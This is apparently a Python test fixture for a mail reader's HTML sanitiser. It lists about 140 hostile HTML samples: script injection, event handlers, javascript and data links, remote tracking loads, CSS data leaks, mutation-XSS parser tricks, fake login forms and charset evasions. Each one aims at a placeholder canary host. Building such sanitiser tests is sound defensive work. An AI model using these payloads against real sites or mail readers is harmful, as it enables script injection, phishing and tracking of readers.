"""HTML that attacks whoever reads it. `CANARY` stands for the address of a server that must never be asked anything;
a script that runs calls `alert`, or asks the canary.

The ways in are those of the OWASP XSS filter evasion cheat sheet, of the papers on mutation XSS (Heiderich et al. 2013)
and of advisories on mail readers; the words are ours.
"""

from dataclasses import dataclass

CANARY = "http://canary.invalid"


@dataclass(frozen=True, slots=True)
class Attack:
    """One HTML part. `charset` is what its mail says of it."""

    name: str
    html: bytes
    charset: str = "utf-8"


_RUN = f"alert(1);new Image().src='{CANARY}/ran'"

_SCRIPT = {
    "script": f"<script>{_RUN}</script>",
    "script of another place": f"<script src={CANARY}/a.js></script>",
    "script in capitals and slashes": f"<SCRIPT/x src={CANARY}/b.js></SCRIPT >",
    "script that never ends": f"<script src={CANARY}/c.js",
    "script within script": f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    "module": f"<script type=module>import '{CANARY}/m.js'</script>",
    "null in a name": f"<scr\0ipt>{_RUN}</scr\0ipt>",
    "processing instruction": f"<?xml version='1.0'?><script>{_RUN}</script>",
    "conditional comment": f"<!--[if gte IE 4]><script>{_RUN}</script><![endif]-->",
    "comment that ends early": f"<!--><script>{_RUN}</script>-->",
    "comment that ends oddly": f"<!-- --!><script>{_RUN}</script>",
    "cdata": f"<![CDATA[<script>{_RUN}</script>]]>",
}
_HANDLERS = {
    "onerror": f'<img src=x onerror="{_RUN}">',
    "onload": f'<body onload="{_RUN}">',
    "onmouseover": f'<b onmouseover="{_RUN}">here</b>',
    "onclick": f'<p onclick="{_RUN}">here</p>',
    "onfocus with autofocus": f'<a href=https://example.org autofocus tabindex=0 onfocus="{_RUN}">x</a>',
    "ontoggle": f'<details open ontoggle="{_RUN}"><summary>x</summary></details>',
    "onstart": f'<marquee onstart="{_RUN}">x</marquee>',
    "onbegin": f'<svg><animate onbegin="{_RUN}" attributeName=x dur=1s></svg>',
    "slash before the handler": f'<img/src=x/onerror="{_RUN}">',
    "handler after a quote": f'<b title=\'"onmouseover={_RUN}\'x=">">x</b>',
    "handler in backticks": f"<img src=`x`onerror=`{_RUN}`>",
    "handler with entities": "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
    "handler with a form feed": f'<img\x0csrc=x\x0conerror="{_RUN}">',
    "handler with a null": f'<img src=x o\0nerror="{_RUN}">',
    "pointer and animation": f'<b onpointerover="{_RUN}" onanimationstart="{_RUN}" style=\'animation:x 1s\'>x</b>',
}
_LINKS = {
    "javascript": f'<a href="javascript:{_RUN}">x</a>',
    "javascript in odd letters": f'<a href=" jAvAsCrIpT&colon;{_RUN}">x</a>',
    "javascript with a tab": f'<a href="java\tscript:{_RUN}">x</a>',
    "javascript with an entity": f'<a href="java&#x0A;script:{_RUN}">x</a>',
    "javascript after a control": f'<a href="\x01javascript:{_RUN}">x</a>',
    "vbscript": '<a href="vbscript:msgbox(1)">x</a>',
    "data": '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "data in base64": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "file": '<a href="file:///etc/passwd">x</a>',
    "blob": '<a href="blob:https://example.org/1">x</a>',
    "relative": '<a href="/desk/sign-out">x</a>',
    "without a scheme": '<a href="//canary.invalid/x">x</a>',
    "ping": f"<a href=https://example.org ping={CANARY}/ping>x</a>",
    "target of our page": "<a href=https://example.org target=_top>x</a>",
    "download": f"<a href={CANARY}/x.exe download>x</a>",
    "in svg": f'<svg><a xlink:href="javascript:{_RUN}"><text y=20>x</text></a></svg>',
}
_REMOTE = {
    "image": f"<img src={CANARY}/pixel.gif width=1 height=1>",
    "image by srcset": f"<img srcset='{CANARY}/1.png 1x, {CANARY}/2.png 2x'>",
    "picture": f"<picture><source srcset={CANARY}/p.png><img></picture>",
    "lazy image": f"<img loading=lazy src={CANARY}/l.png>",
    "input image": f"<input type=image src={CANARY}/i.png>",
    "background of a table": f"<table background={CANARY}/t.png><tr><td background={CANARY}/c.png>x</table>",
    "background of the body": f"<body background={CANARY}/b.png>x</body>",
    "video": f"<video src={CANARY}/v.mp4 poster={CANARY}/p.png autoplay></video>",
    "audio": f"<audio src={CANARY}/a.mp3 autoplay></audio><audio><track src={CANARY}/t.vtt default></audio>",
    "embed and object": f"<embed src={CANARY}/e.swf><object data={CANARY}/o.html></object>",
    "applet": f"<applet code=X archive={CANARY}/a.jar></applet>",
    "frame": f"<iframe src={CANARY}/f.html></iframe>",
    "frame with its own text": f'<iframe srcdoc="<script>parent.{_RUN}</script>"></iframe>',
    "frameset": f"<frameset><frame src={CANARY}/f.html></frameset>",
    "portal and fenced frame": f"<portal src={CANARY}/p></portal><fencedframe src={CANARY}/q></fencedframe>",
    "style sheet": f"<link rel=stylesheet href={CANARY}/s.css>",
    "prefetch": f"<link rel=prefetch href={CANARY}/1><link rel=preload as=image href={CANARY}/2>",
    "prerender and preconnect": f"<link rel=prerender href={CANARY}/3><link rel=preconnect href={CANARY}>",
    "dns prefetch": "<link rel=dns-prefetch href=//canary.invalid>",
    "icon and manifest": f"<link rel=icon href={CANARY}/i.ico><link rel=manifest href={CANARY}/m.json>",
    "svg image": f"<svg><image href={CANARY}/i.png /><use href='{CANARY}/u.svg#x' /></svg>",
    "svg filter": f"<svg><filter id=f><feImage href={CANARY}/f.png /></filter><rect filter='url(#f)' /></svg>",
    "quote's source": f"<blockquote cite={CANARY}/q>x</blockquote><ins cite={CANARY}/r>x</ins>",
    "long description": f"<img longdesc={CANARY}/d src=data:,x>",
    "speculation rules": '<script type=speculationrules>{"prefetch":[{"urls":["http://canary.invalid/s"]}]}</script>',
}
_DATA = {
    "image of data": '<img src="data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22 onload=alert(1) />">',
    "frame of data": "<iframe src='data:text/html,<script>parent.alert(1)</script>'></iframe>",
    "object of data": "<object data='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='></object>",
    "embed of data": "<embed src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+'>",
    "script of data": "<script src='data:text/javascript,alert(1)'></script>",
    "style sheet of data": f"<link rel=stylesheet href='data:text/css,*{{background:url({CANARY}/d)}}'>",
    "style of data": "<p style=\"background:url('data:image/svg+xml,<svg onload=alert(1)>')\">x</p>",
    "svg that uses data": "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)/>#x'/></svg>",
}
_PAGE = {
    "meta refresh": f"<meta http-equiv=refresh content='0;url={CANARY}/refresh'>",
    "meta refresh to data": "<meta http-equiv=refresh content='0;url=data:text/html,<script>alert(1)</script>'>",
    "meta policy": "<meta http-equiv=Content-Security-Policy content=\"default-src * 'unsafe-inline'\">",
    "meta charset": f"<meta charset=utf-7>+ADw-script+AD4-{_RUN}+ADw-/script+AD4-",
    "base": f"<base href={CANARY}/><a href=x>x</a><img src=y>",
    "form": f"<form action={CANARY}/form><input name=password type=password autofocus><button>Log in</button></form>",
    "form of a button": f"<button formaction={CANARY}/form form=write>x</button><input form=write name=then>",
    "isindex": f"<isindex action={CANARY}/i prompt=x>",
    "dialog over the page": "<dialog open style='position:fixed;inset:0'>Sign in again</dialog>",
    "popover": "<div popover id=p style=display:block>x</div><button popovertarget=p>x</button>",
    "clobbered names": "<a id=body name=forms href=https://example.org>x</a><form id=document><input></form>",
    "id of ours": "<div id=main class=top>x</div><p id=outside>x</p>",
    "shadow root": f"<div><template shadowrootmode=open><img src={CANARY}/s><style>*{{color:red}}</style></template>",
    "custom element": f'<x-a is=x-b onclick="{_RUN}">x</x-a>',
    "content editable": "<p contenteditable autofocus accesskey=s draggable=true>x</p>",
}
_STYLE = {
    "style element": f"<style>#outside{{display:none}}body{{background:url({CANARY}/s)}}</style>",
    "import": f"<style>@import '{CANARY}/i.css';</style>",
    "font": f"<style>@font-face{{font-family:x;src:url({CANARY}/f)}}*{{font-family:x!important}}</style>",
    "attribute": f'<p style="background:url({CANARY}/a);position:fixed;inset:0;z-index:9999">x</p>',
    "attribute with escapes": f'<p style="background:\\75\\72\\6c({CANARY}/e)">x</p>',
    "image set": f"<p style=\"background:image-set('{CANARY}/1' 1x)\">x</p>",
    "leak by attribute": f"<style>input[value^=a]{{background:url({CANARY}/a)}}</style><input value=abc>",
    "expression": '<p style="width:expression(alert(1));behavior:url(#x);-moz-binding:url(#y)">x</p>',
    "style in svg": f"<svg><style>#outside{{display:none}}*{{background:url({CANARY}/v)}}</style></svg>",
    "style that never ends": "<style>#outside{display:none}/*",
    "font tag and center": "<font size=7 color=red face=x><center><big><big>x",
    "class of ours": "<p class='news skip'>x</p><p hidden>x</p>",
    "dark text": "<p style='color:#fff;background:#fff;font-size:0'>hidden words</p>",
}
_MUTATION = {
    "noscript": f"<noscript><p title=\"</noscript><img src=x onerror='{_RUN}'>\">",
    "noembed": f"<noembed><p title=\"</noembed><img src=x onerror='{_RUN}'>\">",
    "noframes": f"<noframes><p title=\"</noframes><img src=x onerror='{_RUN}'>\">",
    "xmp": f"<xmp><p title=\"</xmp><img src=x onerror='{_RUN}'>\">",
    "plaintext": f'<p>x<plaintext><img src=x onerror="{_RUN}">',
    "title": f"<title><p title=\"</title><img src=x onerror='{_RUN}'>\">",
    "textarea": f"<textarea><p title=\"</textarea><img src=x onerror='{_RUN}'>\">",
    "select": f'<select><option><style></option></select><img src=x onerror="{_RUN}"></style>',
    "template": f'<template><p></template><img src=x onerror="{_RUN}">',
    "math": f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={_RUN}&gt;">',
    "math and style": f'<math><mi><style></mi><img src=x onerror="{_RUN}"></style></math>',
    "form within form": f'<form><math><mtext></form><form><mglyph><style></math><img src=x onerror="{_RUN}">',
    "svg and style": f"<svg></p><style><a id=\"</style><img src=1 onerror='{_RUN}'>\">",
    "svg and title": f'<svg><title><style><img src=x onerror="{_RUN}"></title></svg>',
    "foreign object": f'<svg><foreignObject><body><img src=x onerror="{_RUN}"></body></foreignObject></svg>',
    "annotation": f'<math><annotation-xml encoding=text/html><style><img src=x onerror="{_RUN}"></style></math>',
    "mathml link": f'<math href="javascript:{_RUN}"><mtext>x</mtext></math>',
    "table that throws out": f'<table><tr><p><img src=x onerror="{_RUN}"><td></table>',
    "attribute with a tag": f"<b title=\"<img src=x onerror='{_RUN}'>\">x</b>",
    "backtick in an attribute": f'<b title="``onmouseover={_RUN}">x</b>',
    "entities of a tag": f'&lt;img src=x onerror="{_RUN}"&gt;',
    "entities twice": f"&amp;lt;script&amp;gt;{_RUN}&amp;lt;/script&amp;gt;",
    "entities without their end": f"&ltscript&gt{_RUN}&lt/script&gt",
    "left open everywhere": f'<b><i title=\'<p "><a href=https://example.org title="><img src=x onerror={_RUN}>',
    "six hundred levels": "<div>" * 600 + f"<script>{_RUN}</script>",
    "thousand attributes": "<p "
    + " ".join(f"a{n}=1" for n in range(1000))
    + f' onclick="{_RUN}"><script>{_RUN}</script>',
    "right to left": "<p>facture\u202efdp.exe</p><bdo dir=rtl>moc.elpmaxe</bdo>",
}
_CHARSETS = (
    Attack("utf-7", b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "utf-7"),
    Attack("utf-16", f"<script>{_RUN}</script>".encode("utf-16"), "utf-16"),
    Attack("utf-16 that says utf-8", f"<script>{_RUN}</script>".encode("utf-16-le")),
    Attack("iso-2022-jp", b'<p title="\x1b$B">x</p><b title="\x1b(B><img src=x onerror=alert(1)>">', "iso-2022-jp"),
    Attack("half a character", b'<p title="\xe0">"><img src=x onerror=alert(1)>'),
    Attack("overlong", b"\xc0\xbcscript\xc0\xbealert(1)\xc0\xbc/script\xc0\xbe"),
    Attack("nulls in between", "\0".join(f"<script>{_RUN}</script>").encode()),
    Attack("of no charset at all", f"<script>{_RUN}</script>".encode(), "x-none"),
)

ATTACKS = (
    tuple(
        Attack(name, html.encode())
        for some in (_SCRIPT, _HANDLERS, _LINKS, _REMOTE, _DATA, _PAGE, _STYLE, _MUTATION)
        for name, html in some.items()
    )
    + _CHARSETS
)


def decoded(attack: Attack) -> str:
    """The HTML as a reader of mails takes it, for what is tried without one."""
    known = attack.charset if attack.charset != "x-none" else "latin-1"
    return attack.html.decode(known, "replace")
